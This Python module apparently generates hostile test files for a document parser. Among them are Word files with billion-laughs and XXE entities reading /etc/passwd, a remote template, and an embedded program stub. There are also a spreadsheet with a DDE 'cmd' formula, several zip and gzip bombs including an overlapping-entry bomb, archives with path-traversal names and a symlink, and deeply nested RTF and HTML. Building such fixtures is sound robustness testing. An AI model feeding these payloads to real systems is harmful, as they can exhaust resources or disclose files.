"""Word files, workbooks, archives and pictures that mean harm: each a name and its bytes."""

from __future__ import annotations

import gzip
import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator

PROGRAM = b"MZ" + b"\x00" * 62 + b"PE\x00\x00" + b"\x00" * 500  #: as much of a program as tells one
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
RELATIONS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN = RELATIONS.format(f'<Relationship Id="r1" Type="{OFFICE}/officeDocument" Target="word/document.xml"/>')


def archive(members: dict[str, bytes | str], *, level: int = 6) -> bytes:
    """Return a ZIP of these members."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as opened:
        for name, content in members.items():
            opened.writestr(name, content)
    return out.getvalue()


def word(body: str, *, before: str = "", **more: bytes | str) -> bytes:
    """Return a Word file with this body; `before` stands before the root, for declarations."""
    document = f'<?xml version="1.0"?>{before}<w:document {W}><w:body>{body}</w:body></w:document>'
    return archive({"[Content_Types].xml": TYPES, "_rels/.rels": MAIN, "word/document.xml": document, **more})


def paragraph(text: str) -> str:
    """Return a paragraph of Word's XML."""
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def cell(text: str, properties: str = "") -> str:
    """Return a table cell of Word's XML."""
    return f"<w:tc><w:tcPr>{properties}</w:tcPr>{paragraph(text)}</w:tc>"


def words() -> Iterator[tuple[str, bytes]]:
    """Yield Word files."""
    for span in (50_000_000, 1_000_000_000, -5):
        wide = cell("a", f'<w:gridSpan w:val="{span}"/>')
        yield f"docx-span-{span}", word(f"<w:tbl><w:tr>{wide}</w:tr></w:tbl>")
    yield (
        "docx-rows-merged-without-start",
        word("<w:tbl>" + f"<w:tr>{cell('a', '<w:vMerge/>')}</w:tr>" * 2_000 + "</w:tbl>"),
    )
    yield "docx-table-1000x20", word("<w:tbl>" + ("<w:tr>" + cell("a") * 20 + "</w:tr>") * 1_000 + "</w:tbl>")
    yield "docx-tables-nested-300", word("<w:tbl><w:tr><w:tc>" * 300 + paragraph("x") + "</w:tc></w:tr></w:tbl>" * 300)
    yield "docx-paragraphs-600MB", word(paragraph("a") * 4_000_000)
    yield "docx-text-15MB", word(paragraph("a" * 15_000_000))
    yield "docx-spaces-100MB", word(paragraph(" " * 100_000_000))
    laughs = '<!DOCTYPE w [<!ENTITY a0 "ha">'
    for level in range(1, 12):
        laughs += f'<!ENTITY a{level} "' + f"&a{level - 1};" * 10 + '">'
    yield "docx-billion-laughs", word(paragraph("&a11;"), before=laughs + "]>")
    quadratic = f'<!DOCTYPE w [<!ENTITY a "{"x" * 50_000}">]>'
    yield "docx-quadratic", word(paragraph("&a;" * 20_000), before=quadratic)
    for name, target in (("file", "file:///etc/passwd"), ("http", "http://127.0.0.1:9/x")):
        yield f"docx-entity-{name}", word(paragraph("X&x;X"), before=f'<!DOCTYPE w [<!ENTITY x SYSTEM "{target}">]>')
    yield (
        "docx-elements-deep",
        word("<w:sdt><w:sdtContent>" * 5_000 + paragraph("x") + "</w:sdtContent></w:sdt>" * 5_000),
    )
    yield "docx-not-closed", word("<w:p><w:r><w:t>text")
    yield "docx-no-document", archive({"[Content_Types].xml": TYPES, "_rels/.rels": MAIN})
    yield (
        "docx-relation-loop",
        archive({"[Content_Types].xml": TYPES, "_rels/.rels": MAIN.replace("word/document.xml", "_rels/.rels")}),
    )
    yield (
        "docx-relation-outside",
        archive({"[Content_Types].xml": TYPES, "_rels/.rels": MAIN.replace("word/document.xml", "../../etc/passwd")}),
    )
    link = '<Relationship Id="r1" Type="{}/{}" Target="{}"{}/>'
    settings = RELATIONS.format(link.format(OFFICE, "settings", "settings.xml", ""))
    outside = ' TargetMode="External"'
    template = RELATIONS.format(link.format(OFFICE, "attachedTemplate", "http://x.example/t.dotm", outside))
    yield (
        "docx-remote-template",
        word(
            paragraph("x"),
            **{
                "word/_rels/document.xml.rels": settings,
                "word/settings.xml": f"<w:settings {W}/>",
                "word/_rels/settings.xml.rels": template,
            },
        ),
    )
    yield (
        "docx-macro",
        word(paragraph("x"), **{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600}),
    )
    inside = RELATIONS.format(link.format(OFFICE, "oleObject", "embeddings/a.bin", ""))
    program = {"word/_rels/document.xml.rels": inside, "word/embeddings/a.bin": PROGRAM}
    yield "docx-embedded-exe", word(paragraph("x"), **program)
    yield (
        "docx-numbers-deep",
        word("<w:p><w:pPr><w:numPr><w:ilvl w:val='99999999'/><w:numId w:val='9'/></w:numPr></w:pPr></w:p>"),
    )
    yield "docx-encrypted", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 4_096


def workbooks() -> Iterator[tuple[str, bytes]]:
    """Yield workbooks."""
    types = TYPES.replace("/word/document.xml", "/xl/workbook.xml").replace(
        "wordprocessingml.document", "spreadsheetml.sheet"
    )
    main = MAIN.replace("word/document.xml", "xl/workbook.xml")
    name = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    book = f'<workbook xmlns="{name}" xmlns:r="{OFFICE}"><sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>'
    relations = RELATIONS.format(f'<Relationship Id="r1" Type="{OFFICE}/worksheet" Target="worksheets/sheet1.xml"/>')

    def sheet(content: str) -> bytes:
        return archive(
            {
                "[Content_Types].xml": types,
                "_rels/.rels": main,
                "xl/workbook.xml": book,
                "xl/_rels/workbook.xml.rels": relations,
                "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{name}">{content}</worksheet>',
            }
        )

    yield (
        "xlsx-17-milliard-cells",
        sheet('<dimension ref="A1:XFD1048576"/><sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData>'),
    )
    yield "xlsx-last-cell", sheet('<sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>')
    rows = "".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>' for n in range(1, 200_000))
    yield "xlsx-rows-200000", sheet(f"<sheetData>{rows}</sheetData>")
    yield "xlsx-merged-all", sheet('<sheetData/><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>')
    yield "xlsx-formula", sheet('<sheetData><row r="1"><c r="A1"><f>cmd|"/c calc"!A1</f><v>1</v></c></row></sheetData>')


def archives() -> Iterator[tuple[str, bytes]]:
    """Yield archives."""
    zeros = b"\x00" * 30_000_000
    bomb = archive({"zeros": zeros}, level=9)
    yield "zip-30MB-of-zeros", bomb
    yield "zip-of-zips", archive({f"{n}.zip": bomb for n in range(50)})
    inner = b"x"
    for _ in range(12):
        inner = archive({"again.zip": inner})
    yield "zip-12-deep", inner
    yield "zip-entries-20000", archive({f"{n}.txt": "x" for n in range(20_000)}, level=1)
    yield "zip-names", archive({"../../x.pdf": "a", "/etc/x": "b", "C:\\x": "c", "a\x01b": "d", "n" * 5_000: "e"})
    yield "zip-overlapping", _overlapping(200, b"\x00" * 1_000_000)
    yield "zip-size-lies", bomb.replace(struct.pack("<I", len(zeros)), struct.pack("<I", 10))
    yield "zip-encrypted", _with_flag(archive({"note.pdf": "x"}), 1)
    yield "zip-cut", archive({"note.pdf": "x" * 5_000})[:-30]
    yield "zip-directory-only", archive({"a/": ""})
    yield "zip-with-exe", archive({"note.pdf.exe": PROGRAM})
    yield "gzip-bomb", gzip.compress(b"\x00" * 100_000_000, 1)
    yield "gzip-twice", gzip.compress(gzip.compress(b"\x00" * 50_000_000, 1), 1)
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w:gz") as opened:
        link = tarfile.TarInfo("link")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
        opened.addfile(link)
    yield "tar-symlink", tar.getvalue()
    yield "7z-header", b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\xff" * 200
    yield "rar-header", b"Rar!\x1a\x07\x01\x00" + b"\xff" * 200
    yield "tnef-cut", b"\x78\x9f\x3e\x22\x01\x00" + b"\x01\x06\x90\x08\x00\xff\xff\xff\x7f"
    yield "tnef-nonsense", b"\x78\x9f\x3e\x22" + b"\xff" * 4_000
    yield "p7m-length-lies", b"\x30\x84\xff\xff\xff\xff\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02" + b"\x30" * 500
    yield "p7m-deep", b"\x30\x80" * 20_000


def pictures() -> Iterator[tuple[str, bytes]]:
    """Yield pictures and old or loose formats."""

    def png(width: int, height: int, rows: bytes) -> bytes:
        def chunk(kind: bytes, content: bytes) -> bytes:
            return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

        header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
        return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")

    yield "png-60000x60000", png(60_000, 60_000, b"\x00" * 1_000_000)
    yield "png-cut", png(100, 100, b"\x00" * 50)
    yield "png-zero", png(0, 0, b"")
    yield "jpeg-header", b"\xff\xd8\xff\xe0" + b"\x00" * 100
    yield "tiff-pages-loop", b"II*\x00\x08\x00\x00\x00" + b"\x00\x00" + b"\x08\x00\x00\x00"
    yield "tiff-nonsense", b"II*\x00" + b"\xff" * 400
    yield "gif-nonsense", b"GIF89a" + b"\xff" * 400
    yield "heic-nonsense", b"\x00\x00\x00\x18ftypheic" + b"\xff" * 400
    yield "doc-nonsense", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 4_096
    yield "rtf-deep", b"{\\rtf1" + b"{" * 200_000 + b"x" + b"}" * 200_000
    yield "rtf-object", b"{\\rtf1{\\object\\objocx{\\*\\objdata " + b"4d5a" * 10_000 + b"}}}"
    yield "html-deep", b"<html><body>" + b"<div>" * 100_000 + b"x"
    yield "html-table-20000", b"<table>" + b"<tr><td colspan=99999999>x" * 20_000 + b"</table>"
    yield "html-attributes", b"<p " + b"a=b " * 200_000 + b">x"
    yield "text-one-line-5MB", b"a " * 2_500_000
    yield "text-tabs-1MB", b"a" + b"\t" * 1_000_000
    yield "text-nul", b"text\x00text" * 1_000
    yield "csv-columns-100000", b";".join([b"x"] * 100_000) + b"\n" + b";".join([b"1"] * 100_000)


def _overlapping(entries: int, content: bytes) -> bytes:
    """Return a ZIP whose directory names one member's bytes many times (D. Fifield, A better zip bomb, 2019)."""
    whole = archive({"a": content}, level=9)
    start = whole.rindex(b"PK\x01\x02")
    directory, end = whole[start : whole.rindex(b"PK\x05\x06")], whole[whole.rindex(b"PK\x05\x06") :]
    counts = struct.pack("<HHI", entries, entries, len(directory) * entries)
    return whole[:start] + directory * entries + end[:8] + counts + end[16:]


def _with_flag(whole: bytes, flag: int) -> bytes:
    """Return a ZIP whose members claim a general-purpose flag."""
    found = bytearray(whole)
    local, central = found.find(b"PK\x03\x04"), found.find(b"PK\x01\x02")
    found[local + 6] |= flag
    found[central + 8] |= flag
    return bytes(found)


def papers() -> dict[str, bytes]:
    """Return every hostile paper that is no PDF, by name."""
    return dict([*words(), *workbooks(), *archives(), *pictures()])
